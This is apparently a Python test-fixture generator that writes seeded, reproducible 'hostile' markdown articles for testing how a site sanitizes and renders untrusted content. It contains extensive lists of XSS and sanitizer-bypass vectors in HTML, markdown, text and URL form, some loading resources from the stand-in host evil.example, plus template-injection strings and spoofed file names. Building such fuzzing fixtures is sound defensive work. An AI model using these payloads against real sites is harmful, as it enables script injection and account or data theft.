"""Write articles that try to run scripts in pages and readers, the same on every machine."""

import json
from pathlib import Path
from random import Random
from typing import Any

EVIL = "evil.example"
"""The host that the scripts, styles and frames of hostile articles come from."""

_DATA = "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg=="
HTML_VECTORS = [
    "<script>pwned()</script>",
    f"<ScRiPt/src=//{EVIL}/x.js></sCrIpT >",
    "<script\n>pwned()</script\n>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<img src=x onerror=pwned()>",
    '<img src="x" onerror="pwned()"//>',
    "<img/src/onerror=pwned()>",
    "<img src=x onerror\n=\npwned()>",
    '<img src="x`" onerror=pwned()`>',
    '<img srcset="x 1x, javascript:pwned() 2x" onerror=pwned()>',
    '<IMG """><SCRIPT>pwned()</SCRIPT>">',
    "<svg onload=pwned()>",
    "<svg/onload=pwned()//",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:pwned()><a id=x><text y=20>x</text></a></svg>",
    '<svg><a xlink:href="javascript:pwned()"><text y=20>x</text></a></svg>',
    f'<svg><use href="//{EVIL}/x.svg#x"></use></svg>',
    "<svg><foreignObject><iframe src=javascript:pwned()></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=pwned()></style></svg>",
    "<svg></p><style><a title='</style><img src=x onerror=pwned()>'>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
    '<math href="javascript:pwned()">x</math>',
    "<math><mtext><mglyph><style><img src=x onerror=pwned()></style></mglyph></mtext></math>",
    '<iframe src="javascript:pwned()"></iframe>',
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    f"<iframe src=//{EVIL}/></iframe>",
    '<iframe src="https://www.youtube.com/embed/x" onload=pwned() srcdoc="<script>parent.pwned()</script>"></iframe>',
    f'<iframe src="https://www.youtube.com@{EVIL}/embed/x"></iframe>',
    f'<iframe src="https://www.youtube.com.{EVIL}/embed/x"></iframe>',
    '<object data="javascript:pwned()"></object>',
    f'<object data="//{EVIL}/x.swf"><param name=movie value="javascript:pwned()"></object>',
    '<embed src="javascript:pwned()">',
    f'<applet code="//{EVIL}/x.class"></applet>',
    '<form action="javascript:pwned()"><input type=submit autofocus></form>',
    "<form id=x></form><button form=x formaction=javascript:pwned()>x</button>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()><option>x</select>",
    "<textarea autofocus onfocus=pwned()>x</textarea>",
    "<details open ontoggle=pwned()><summary>x</summary>y</details>",
    "<video autoplay onloadstart=pwned()><source src=x onerror=pwned()></video>",
    "<audio src=x onerror=pwned() autoplay></audio>",
    "<body onload=pwned() onpageshow=pwned()>",
    "<marquee onstart=pwned()>x</marquee>",
    "<p style=animation-name:x onanimationstart=pwned()>x</p>",
    "<p tabindex=1 autofocus onfocus=pwned() id=x>x</p>",
    "<div style=\"background:url('javascript:pwned()');width:expression(pwned())\">x</div>",
    f"<style>@import '//{EVIL}/x.css'; * {{ background: url(//{EVIL}/x.png) }}</style>",
    f"<link rel=stylesheet href=//{EVIL}/x.css><link rel=import href=//{EVIL}/>",
    '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
    f"<base href=//{EVIL}/><base target=_top>",
    '<a href="javascript:pwned()">x</a>',
    '<a href=" &#14; javascript:pwned()">x</a>',
    '<a href="java&#x73;cript&colon;pwned()">x</a>',
    '<a href="java&Tab;script&NewLine;:pwned()">x</a>',
    '<a href="JaVaScRiPt:pwned()" target=_self>x</a>',
    '<a href="vbscript:pwned()">x</a>',
    f'<a href="{_DATA}">x</a>',
    '<a href="x" onclick=pwned() onmouseover=pwned()>x</a>',
    "<a href='x' style='position:fixed;inset:0' ping='//evil.example/'>x</a>",
    "<template><script>pwned()</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
    '<textarea><img title="</textarea><img src=x onerror=pwned()>"></textarea>',
    '<title><img title="</title><img src=x onerror=pwned()>"></title>',
    '<xmp><p title="</xmp><svg/onload=pwned()>"></xmp>',
    "<listing>&lt;img src=x onerror=pwned()&gt;</listing>",
    "<plaintext><script>pwned()</script>",
    "<!--><img src=x onerror=pwned()>-->",
    "<!--x--!><img src=x onerror=pwned()>-->",
    "<![CDATA[<img src=x onerror=pwned()>]]>",
    "<?x ?><img src=x onerror=pwned()>",
    "</x/><img src=x onerror=pwned()>",
    "<table><td background=javascript:pwned()><script>pwned()</script></table>",
    "<b <script>pwned()</script>0",
    "<p id=x name=body></p><img name=getElementById><form name=documentElement><input name=attributes></form>",
    "<p><table><p><b><i><a><script>pwned()</script></table>",
    "<dl><dt><a name='<img src=x onerror=pwned()>'><dd>x</dl>",
]
TEXT_VECTORS = [
    '"><script>pwned()</script>',
    "'><img src=x onerror=pwned()>",
    '" onmouseover=pwned() autofocus onfocus=pwned() x="',
    "' onmouseover='pwned()",
    "</title><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "]]><script>pwned()</script><![CDATA[",
    "--><script>pwned()</script><!--",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=pwned()&amp;gt;",
    "&#60;img src=x onerror=pwned()&#62;",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "${pwned()} #{pwned()} {{pwned()}} {% set x = pwned() %}",
    "<%= pwned() %><?php pwned() ?>",
    "`-pwned()-`'-pwned()-'\"-pwned()-\"",
    "\u2028pwned()\u2029//",
    "\x00<script>pwned()</script>\x1b[2J",
    "<\u200bscript>pwned()</script>",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "\u202e<script>pwned()</script>",
    "javascript:pwned()",
]
MARKDOWN_VECTORS = [
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt:pwned())",
    "[x](java&#115;cript&colon;pwned())",
    "[x](\\javascript:pwned())",
    f"[x]({_DATA})",
    "[x](vbscript:pwned())",
    "![x](javascript:pwned())",
    '![x](x"onerror="pwned())',
    '![x" onerror="pwned()](https://x.example/x.png)',
    '[x](https://x.example/ "title\' onclick=pwned() \\" onclick=pwned()")',
    "<javascript:pwned()>",
    "[x]\n\n[x]: javascript:pwned()",
    "[x][y]\n\n[y]: <javascript:pwned()> 'onclick=pwned()'",
    "[^1]\n\n[^1]: <img src=x onerror=pwned()>",
    "| <img src=x onerror=pwned()> | x |\n|---|---|\n| `<script>` | [x](javascript:pwned()) |",
    "```html onclick=pwned()\n<script>pwned()</script>\n```",
    "`<script>pwned()</script>`",
    "- <b onclick=pwned()>x\n- [ ] <input onfocus=pwned() autofocus>",
    "> <div>\n\n> <script>pwned()</script>\n",
    "# <img src=x onerror=pwned()> {onclick=pwned()}",
    "x\n: <svg onload=pwned()>",
    "~~<script>~~pwned()~~</script>~~",
    "$$<script>pwned()</script>$$",
    "&lt;script>pwned()&lt;/script>",
]
_URLS = [
    "javascript:pwned()",
    'https://x.example/"onmouseover=pwned()',
    "https://x.example/'><script>pwned()</script>",
    "https://x.example/?q=<img src=x onerror=pwned()>",
    "https://x.example/#javascript:pwned()",
    "https://x.example/]]>--></title>",
    f"//{EVIL}/",
    _DATA,
    "https://x.example/\u202egnp.exe",
]
_TOPICS = ["Crime", '"><img src=x onerror=pwned()>', "</title><script>pwned()</script>", "{{7*7}}", "'onclick='pwned()"]
_DOMAINS = ["x.example", "a.example", "b.example", '"><script>pwned()</script>']


def write_hostile_articles(folder: Path, number: int) -> None:
    """Write `number` articles, each with vectors in most of its fields and in its body."""
    random = Random(12)  # noqa: S311 no secret
    folder.mkdir(parents=True, exist_ok=True)
    for index in range(number):
        fields = _make_story(random, index) | {
            "id": random.choice(["", "", *_URLS]) and f"urn:x:{index}{random.choice(_URLS)}",
            "topics": random.sample(_TOPICS, random.choice([1, 1, 1, 2])),
            "featuredContent": _pick(random, HTML_VECTORS),
            "related": [_make_story(random, f"{index}-{item}") for item in range(random.randrange(3))],
            "locale": _pick(random, TEXT_VECTORS),
            "published": random.choice(["true", "true", "true", "</script>"]) if index % 50 == 0 else "true",
            "secured": _pick(random, TEXT_VECTORS),
        }
        body = "\n\n".join(_pick(random, HTML_VECTORS + MARKDOWN_VECTORS) for _ in range(random.randrange(1, 7)))
        if index % 3 == 0:
            body = _mutate(random, body)
        text = f"---\n{json.dumps(fields)}\n---\n{body}\n"
        (folder / f"hostile-{index:04}.md").write_text(text, encoding="utf-8", errors="replace")


def _make_story(random: Random, name: object) -> dict[str, Any]:
    return {
        "title": f"Hostile {name} {_pick(random, TEXT_VECTORS + HTML_VECTORS)}",
        "webUrl": f"https://x.example/{name}?{random.choice(['', *_URLS])}",
        "originalUrl": random.choice(_URLS),
        "ampWebUrl": random.choice(_URLS),
        "publishedDateTime": f"2020-{random.randrange(1, 13):02}-{random.randrange(1, 29):02}T00:00:00Z",
        "excerpt": _pick(random, TEXT_VECTORS + HTML_VECTORS),
        "type": random.choice(["article", "video", '"><script>pwned()</script>']),
        "images": [{"url": random.choice(_URLS), "title": _pick(random, TEXT_VECTORS), "width": "1 onload=pwned()"}],
        "provider": {
            "name": _pick(random, TEXT_VECTORS),
            "domain": random.choice(_DOMAINS),
            "authors": [_pick(random, TEXT_VECTORS)],
        },
    }


def _pick(random: Random, vectors: list[str]) -> str:
    """Return one vector, or two in one text."""
    return " ".join(random.sample(vectors, random.choice([1, 1, 2])))


def _mutate(random: Random, text: str) -> str:
    """Cut, repeat and swap parts of a text."""
    for _ in range(random.randrange(1, 4)):
        start, end = sorted(random.randrange(len(text) + 1) for _ in range(2))
        part = random.choice(["", text[start:end] * 2, text[start:end][::-1], random.choice(HTML_VECTORS), "</", "\0"])
        text = text[:start] + part + text[end:]
    return text
